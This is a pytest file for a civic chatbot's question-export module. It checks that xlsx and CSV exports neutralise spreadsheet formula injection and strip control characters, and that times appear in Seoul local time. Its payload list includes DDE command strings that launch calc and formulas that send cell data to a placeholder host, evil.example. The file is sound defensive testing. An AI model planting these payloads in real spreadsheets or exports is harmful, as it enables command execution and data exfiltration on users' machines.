"""Whatever citizens write, no spreadsheet computes anything of it, and nothing readable of it is lost."""

import csv
import io
import json
import unicodedata
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from bot.follow_up.overview.question_export import COLUMNS, as_csv, cell, exported, printable

_SEOUL = ZoneInfo("Asia/Seoul")
_SIGNS = "=+-@＝＋－＠﹢﹣﹦﹫"
PAYLOADS = [
    *(f"{sign}1+1" for sign in _SIGNS),
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "+82-10-0000-0000 전화",
    "-2+3+cmd|' /C calc'!D2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u3000=1+1",
    "질문; =1+1",
    '"; =1+1',
    'a;"=1+1',
    "a|=1+1",
    '"=1+1"',
    "'=1+1",
    "예산\x07\x1b[31m빨강",
    "\x00\x01\x02\x0b\x0c\x1f\x7f",
    "\ud800 짝 없는 글자",
    "\ufffe\uffff 글자 아님",
    "_x0041_ _x000D_ _x005F_x0041_",
    '<c t="f">1+1</c> & ]]>',
    "줄\n바꿈\r\n둘",
    '따옴표 " 쉼표, 끝',
    "👩‍👩‍👧‍👦 가족",
    "\u202egpj.exe",
    "가" * 4096,
]  # fmt: skip


def _row(text: str) -> dict[str, Any]:
    times = {"asked_at": "2026-11-22T15:30:00+00:00", "answered_at": None}
    return {**dict.fromkeys(COLUMNS, text), **times, "nearest": [{"entry_id": "budget", "confidence": 0.25}]}


def _readable(text: str) -> str:
    """What is left of a text when everything that cannot be seen is left out."""
    return "".join(filter(str.isprintable, printable(text)))


def test_there_are_forty_payloads() -> None:
    assert len(PAYLOADS) >= 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_workbook_holds_the_text_and_no_formula(payload: str) -> None:
    content = exported([_row(payload)], "xlsx", _SEOUL)
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet
    head, row = sheet.iter_rows()
    assert [each.value for each in head] == list(COLUMNS)
    for each in (*head, *row):
        assert each.data_type in {"s", "inlineStr", "n"}  # texts, and n for what is empty
        assert each.quotePrefix or each.value is None
    assert str(row[5].value or "").replace("_x005F_", "_") == printable(payload)  # as spreadsheets read it


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_holds_the_text_and_no_formula(payload: str) -> None:
    content = as_csv([_row(payload)], _SEOUL)
    head, row = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert head == list(COLUMNS)
    for value in row:
        assert not value.lstrip().startswith(tuple(_SIGNS))
        assert not any(unicodedata.category(character).startswith("C") for character in value.strip("\ufffe\uffff "))
    letters = "".join(filter(str.isalnum, _readable(payload)))
    assert "".join(filter(str.isalnum, row[5])) == letters


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_read_with_another_delimiter_has_no_formula_either(payload: str, delimiter: str) -> None:
    written = as_csv([_row(payload)], _SEOUL).decode("utf-8-sig")
    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
        for row in csv.reader(io.StringIO(written, newline=""), delimiter=delimiter, quoting=quoting):
            assert not [each for each in row if each.strip().lstrip('"').lstrip().startswith(tuple(_SIGNS))]


def test_cell_of_a_workbook_is_never_too_long() -> None:
    assert len(printable("가" * 40_000)) == 32_767


def test_formula_inside_a_text_is_no_formula() -> None:
    assert cell("1 = 1") == "1 = 1"


def test_tables_have_the_times_of_the_citys_clocks_and_json_those_that_programs_compare() -> None:
    row = {**_row("질문"), "answered_at": "2026-11-22T16:05:09+00:00"}
    (cells,) = csv.DictReader(io.StringIO(as_csv([row], _SEOUL).decode("utf-8-sig"), newline=""))
    assert (cells["asked_at"], cells["answered_at"]) == ("2026-11-23 00:30:00", "2026-11-23 01:05:09")
    sheet = load_workbook(io.BytesIO(exported([row], "xlsx", _SEOUL))).active
    assert sheet
    assert [each.value for each in list(sheet.iter_rows())[1]][1] == "2026-11-23 00:30:00"
    (plain,) = json.loads(exported([row], "json", _SEOUL))
    assert plain["asked_at"] == row["asked_at"]
